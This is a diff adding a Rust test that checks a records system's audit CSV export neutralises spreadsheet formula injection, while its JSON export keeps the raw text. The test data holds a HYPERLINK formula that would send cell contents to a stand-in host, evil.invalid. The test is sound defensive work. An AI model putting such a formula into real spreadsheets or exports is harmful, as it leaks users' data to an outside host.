@@ -345,3 +345,44 @@ async fn the_audit_export_matches_every_change_of_a_scripted_scenario() {
         .expect("request sent");
     assert_eq!(anonymous.status().as_u16(), 401);
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_csv_export_neutralises_cells_a_spreadsheet_would_evaluate_and_json_keeps_them() {
+    let f = fixture().await;
+    let phone = f.device("PC1", Role::Officer, "A").await;
+    const FORMULA: &str = "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Open the report\")";
+    let mut record = Record::new(
+        RecordKind::CrimeReport,
+        RecordId::generate(),
+        phone.user.officer.clone(),
+        t(0),
+    );
+    narrative(&mut record, FORMULA);
+    let id = record.id();
+    let doc = RecordDoc::create(&record, &phone.actor, &author(&phone), t(0)).expect("doc");
+    f.push(&phone, &doc, &[]).await;
+
+    let (status, text) = f.audit(&phone, id, "?format=csv", "*/*").await;
+    assert_eq!(status, 200, "{text}");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let cell = reader
+        .records()
+        .map(|r| r.expect("a row"))
+        .find(|r| &r[8] == "narrative")
+        .expect("the narrative row")[10]
+        .to_owned();
+    assert_eq!(
+        cell,
+        format!("'{FORMULA}"),
+        "shown as text, never evaluated"
+    );
+
+    let (status, body) = f.audit(&phone, id, "", "*/*").await;
+    assert_eq!(status, 200, "{body}");
+    let rows: Vec<Value> = serde_json::from_str(&body).expect("JSON rows");
+    let narrative_row = rows
+        .iter()
+        .find(|r| r["field"] == "narrative")
+        .expect("the narrative row");
+    assert_eq!(narrative_row["new"], FORMULA, "JSON keeps what was typed");
+}
